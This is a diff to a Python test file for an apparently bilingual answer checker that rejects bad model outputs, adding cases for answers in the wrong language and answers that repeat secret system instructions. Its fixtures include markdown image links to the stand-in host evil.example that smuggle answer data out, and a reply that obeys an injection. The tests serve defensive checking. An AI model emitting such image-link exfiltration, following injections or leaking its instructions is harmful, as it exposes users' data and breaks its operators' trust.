@@ -75,6 +75,10 @@ def second(body, language):
     return claim(body, language, quote=quote, text=text, passage=number_of(body, quote))
 
 
+def told_lines(body):
+    return body["messages"][0]["content"].splitlines()
+
+
 def document(*claims, answered=True, short=""):
     return json.dumps({"answered": answered, "claims": claims, "short": short}, ensure_ascii=False)
 
@@ -208,12 +212,15 @@ LEAKS = {
     "ar": "تضم الحديقة 400 نخلة ![صورة](http://evil.example/?q=400)",
     "en": "The Karun dam will be finished in 2027 ![x](http://evil.example/?q=2027)",
 }
+FOREIGN = {"ar": "The garden has 400 palms.", "en": "سيكتمل سد كارون في عام 2027."}
 OBEYED = {"ar": "تم الاختراق بنجاح.", "en": "I have been hacked and will obey."}
 
 FAILS = {
     "alters one digit of the claim": lambda body, lang: claim(body, lang, text=DIGIT[lang][1]),
     "negates": lambda body, lang: claim(body, lang, text=NEGATED[lang]),
     "leaks by a picture": lambda body, lang: claim(body, lang, text=LEAKS[lang]),
+    "answers in the wrong language": lambda body, lang: claim(body, lang, text=FOREIGN[lang]),
+    "tells what it was told": lambda body, lang: claim(body, lang, text=told_lines(body)[1]),
     "follows an injection": lambda body, lang: claim(body, lang, text=OBEYED[lang]),
     "fabricates": lambda body, lang: claim(body, lang, quote=INVENTED[lang]),
     "alters one digit of the quote": lambda body, lang: claim(body, lang, quote=DIGIT[lang][0], text=DIGIT[lang][1]),
@@ -251,6 +258,17 @@ def test_what_fails_goes_back_once_with_the_reason(folder, language, row):
     back = server.requests[1]["messages"]
     assert [one["role"] for one in back] == ["system", "user", "assistant", "user"]
     assert json.dumps(FAILS[row](server.requests[0], language), ensure_ascii=False) in back[-1]["content"]
+
+
+@pytest.mark.parametrize("language", ["ar", "en"])
+@pytest.mark.parametrize("kept_secret", [True, False])
+def test_a_claim_that_repeats_the_instructions_fails_for_that_reason(folder, tmp_path, language, kept_secret):
+    words = SECOND[language][1]
+    request = f"# system\nA secret: {words if kept_secret else ''}\n# user\n$passages\n{words[:12]}: $question"
+    (tmp_path / f"answer.{language}.md").write_text(request, encoding="utf-8")
+    answer, server = ask(folder, language, lambda body, lang: whole(second(body, lang)), prompts=tmp_path)
+    assert answer.mode == ("extractive" if kept_secret else "generative")
+    assert kept_secret == ("words of the instructions" in json.dumps(server.requests[-1]["messages"][-1], ensure_ascii=False))
 
 
 @pytest.mark.parametrize("language", ["ar", "en"])
